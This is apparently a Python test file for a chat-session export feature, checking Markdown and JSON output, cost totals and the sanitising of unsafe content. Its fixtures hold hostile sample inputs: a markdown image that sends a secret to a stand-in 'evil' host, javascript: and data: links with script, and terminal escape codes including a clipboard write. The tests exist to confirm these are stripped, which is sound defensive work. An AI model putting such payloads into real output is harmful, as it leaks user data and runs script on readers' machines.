"""Tests of session export to Markdown and JSON (assistant/views/export.py)."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime

from assistant.sessions.base import SessionDocument, SessionMeta, ToolStep, TurnRecord
from assistant.views.export import session_to_dict, session_to_json, session_to_markdown
from tests.views.test_markdown import assert_only_safe_links

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)


def _doc() -> SessionDocument:
    meta = SessionMeta(
        id="s1",
        user_id="u",
        title="Acme prep",
        state="completed",
        created_at=NOW,
        updated_at=NOW,
        model="offline",
        turn_count=2,
        input_tokens=10,
        output_tokens=20,
    )
    step = ToolStep("t1", "get_upcoming_meetings", {"query": "Acme"}, "success", "1 meeting", 12.0)
    messages = [
        {"role": "user", "content": [{"text": "Prepare me"}]},
        {
            "role": "assistant",
            "content": [
                {"text": "Checking..."},
                {"toolUse": {"toolUseId": "t1", "name": "get_upcoming_meetings", "input": {"query": "Acme"}}},
            ],
        },
        {"role": "user", "content": [{"toolResult": {"toolUseId": "t1", "content": [{"text": "{}"}]}}]},
        {"role": "assistant", "content": [{"text": "Here ![x](https://evil/?q=secret) <img src=x>"}]},
        {"role": "user", "content": [{"text": "more"}]},
        {"role": "assistant", "content": [{"text": "Partial"}]},
    ]
    turns = [
        TurnRecord(
            0,
            "Prepare me",
            NOW,
            NOW,
            "ok",
            0,
            4,
            "offline",
            5,
            10,
            cost_usd=0.0,
            ttft_ms=200.0,
            latency_ms=900.0,
            tool_steps=(step,),
            feedback=1,
        ),
        TurnRecord(
            1, "more", NOW, NOW, "stopped", 4, 6, "bedrock:x", 5, 10, cost_usd=None, error="Stopped by the user."
        ),
    ]
    return SessionDocument(meta=meta, messages=messages, turns=turns)


def test_markdown_has_transcript_steps_cost_and_is_safe() -> None:
    md = session_to_markdown(_doc(), exported_at=NOW)
    assert md.startswith("# Acme prep\n")
    assert "**You:**" in md and "Prepare me" in md and "Checking..." in md
    assert "Tool `get_upcoming_meetings` (success, 12 ms)" in md and '"query": "Acme"' in md
    assert "1 meeting" in md
    assert "$0.00" in md and "cost unknown" in md and "feedback: thumbs up" in md
    assert "*Stopped: Stopped by the user.*" in md
    assert "](https://evil" not in md and "<img" not in md


def test_markdown_total_keeps_the_known_part_of_a_partly_unpriced_cost() -> None:
    """A session with one priced and one unpriced answer was exported as "cost unknown", hiding
    the $0.42 known (the page says "at least $0.42")."""
    doc = _doc()
    doc = replace(doc, meta=replace(doc.meta, cost_usd=0.42, cost_unknown=True))
    md = session_to_markdown(doc, exported_at=NOW)
    assert "cost at least $0.42 (some prices unknown)" in md
    priced = replace(doc, meta=replace(doc.meta, cost_usd=0.42, cost_unknown=False, model="bedrock:x"))
    assert "· cost $0.42\n" in session_to_markdown(priced, exported_at=NOW)


def test_json_round_trips_turns_and_answers() -> None:
    data = json.loads(session_to_json(_doc(), exported_at=NOW))
    assert data["format"] == "executive-assistant.session" and data["session"]["id"] == "s1"
    assert [t["status"] for t in data["turns"]] == ["ok", "stopped"]
    assert data["turns"][0]["tool_steps"][0]["duration_ms"] == 12.0
    assert data["turns"][0]["answer"].startswith("Checking...")
    assert data["turns"][1]["cost_usd"] is None
    assert len(data["messages"]) == 6
    assert session_to_dict(_doc())["session"]["cost_usd"] == 0.0


def _hostile_doc() -> SessionDocument:
    doc = _doc()
    meta = replace(doc.meta, title="[Open me](javascript:alert(document.cookie))")
    step = ToolStep("t1", "x` [leak](javascript:alert(1)) `y", {"q": 1}, "error", "[r](data:text/html,hi)", 3.0)
    messages = [dict(m) for m in doc.messages]
    messages[0] = {"role": "user", "content": [{"text": "Prepare me [mine](data:text/html,<script>1</script>)"}]}
    messages[1] = {
        "role": "assistant",
        "content": [
            {"text": "Read [this](javascript:alert(1)) and [the doc](https://intranet.example/doc)"},
            {"toolUse": {"toolUseId": "t1", "name": step.name, "input": {"q": 1}}},
        ],
    }
    turns = [
        replace(doc.turns[0], user_text="Prepare me [mine](data:text/html,<script>1</script>)", tool_steps=(step,)),
        replace(doc.turns[1], status="error", error="Model said [retry](javascript:alert(2))"),
    ]
    return SessionDocument(meta=meta, messages=messages, turns=turns)


def test_markdown_export_keeps_only_http_https_mailto_links() -> None:
    md = session_to_markdown(_hostile_doc(), exported_at=NOW)
    assert_only_safe_links(md)
    heading = md.splitlines()[0]
    assert heading.startswith("# ") and "Open me" in heading and "javascript:alert" in heading, "title shown as text"
    assert "[the doc](https://intranet.example/doc)" in md, "ordinary links still work"
    assert "javascript:alert(1)" in md and "data:text/html" in md, "the targets are shown, as text"


def test_markdown_export_holds_no_control_characters() -> None:
    """The model's text is stored as it came: a NUL or a terminal escape reached the .md file,
    which `cat` ran (colours, a window title, OSC 52 writes the clipboard) and tools read as binary."""
    doc = _doc()
    messages = [dict(m) for m in doc.messages]
    messages[3] = {
        "role": "assistant",
        "content": [{"text": "Budget\x00 \x1b[31mred\x1b[0m \x1b]52;c;ZXZpbA==\x07done\tok"}],
    }
    md = session_to_markdown(replace(doc, messages=messages), exported_at=NOW)
    assert "Budget red done\tok" in md
    assert not any(ord(c) < 32 and c not in "\n\t" for c in md), repr(md)


def test_markdown_export_title_reads_as_typed_as_on_the_page() -> None:
    """The page shows a title as typed; the export's heading rendered "**Q3**" bold and "<b>" as HTML
    (escaped to a visible "&lt;b&gt;"), so the file read otherwise than the page it was taken from."""
    doc = replace(_doc(), meta=replace(_doc().meta, title="**Q3** plan <b>x</b> $5 _draft_ #2"))
    heading = session_to_markdown(doc, exported_at=NOW).splitlines()[0]
    assert heading == r"# \*\*Q3\*\* plan \<b\>x\</b\> \$5 \_draft\_ \#2", heading
